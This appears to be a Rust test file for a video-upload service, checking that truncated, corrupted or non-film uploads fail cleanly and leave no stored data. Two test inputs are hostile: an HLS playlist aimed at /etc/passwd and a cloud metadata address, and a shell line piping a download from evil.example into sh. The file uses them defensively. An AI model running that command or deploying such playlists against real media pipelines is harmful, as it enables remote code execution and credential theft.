//! Files that are no film, or not quite: they fail with a reason, and nothing of them is kept.

use vault_tests::films::{SHORT, VP9, mutated, two_to_the_31_samples};
use vault_tests::{people, sdk};

/// Uploads and expects this failure, and that no segment and no key is left.
fn fails(octets: &[u8], code: &str) {
    let owner = people::owner();
    let asset = owner.upload(octets);
    let status = owner.settled(&asset);
    assert_eq!(
        (&status["state"], &status["code"]),
        (&"failed".into(), &code.into()),
        "{status}"
    );
    let reason = status["reason"].as_str().unwrap_or_default();
    assert!(
        reason.len() > 20 && reason.contains(' '),
        "no sentence for a person: {reason:?}"
    );
    assert!(sdk::objects("MediaBucket", &format!("media/{asset}/")).is_empty());
    assert_eq!(sdk::count_under("KeysTable", &asset), 0);
    let minted = owner.api.exchange(&owner.access, &asset, &[]);
    vault_tests::api::refused_token(&minted, "invalid_target", "wrong_state");
}

#[test]
fn a_film_cut_short_in_its_pictures() {
    let film = SHORT.octets();
    fails(&film[..film.len() * 2 / 3], "film_cut_short");
}

#[test]
fn a_film_cut_short_in_its_index() {
    let film = SHORT.octets();
    let at = film.windows(4).position(|kind| kind == b"stbl").unwrap();
    fails(&film[..at + 40], "film_cut_short");
}

#[test]
fn a_film_whose_tables_are_gone() {
    fails(&mutated(), "damaged_film");
}

#[test]
fn an_index_that_claims_two_to_the_31_samples() {
    fails(&two_to_the_31_samples(), "damaged_film");
}

#[test]
fn a_playlist_named_mp4() {
    fails(b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n", "not_a_film");
}

#[test]
fn a_shell_script_named_mp4() {
    fails(b"#!/bin/sh\ncurl http://evil.example/ | sh\n", "not_a_film");
}

#[test]
fn what_says_that_it_has_to_be_converted_and_is_nothing() {
    let mut matroska = b"\x1a\x45\xdf\xa3 a Matroska file, or so it says".to_vec();
    fails(&matroska, "unreadable_film");
    matroska.resize(100_000, 0x5a);
    fails(&matroska, "unreadable_film");
}

#[test]
fn a_film_of_another_codec_whose_pictures_are_noise() {
    let mut film = VP9.octets();
    let at = film.windows(4).position(|kind| kind == b"mdat");
    for octet in film.iter_mut().skip(at.expect("samples") + 4) {
        *octet ^= 0x5a;
    }
    fails(&film, "unreadable_film");
}

#[test]
fn one_octet_and_noise() {
    fails(b"\0", "not_a_film");
    let noise: Vec<u8> = (0..100_000_u32)
        .map(|number| (number.wrapping_mul(2_654_435_761) >> 24).to_le_bytes()[0])
        .collect();
    fails(&noise, "not_a_film");
}

#[test]
fn boxes_that_contain_each_other_and_claim_to_be_endless() {
    let mut film = Vec::new();
    for _ in 0..2_000 {
        film.extend_from_slice(b"\x7f\xff\xff\xffmoov");
    }
    let code = people::owner().failing(&film);
    assert!(
        ["film_cut_short", "damaged_film"].contains(&code.as_str()),
        "{code}"
    );
}
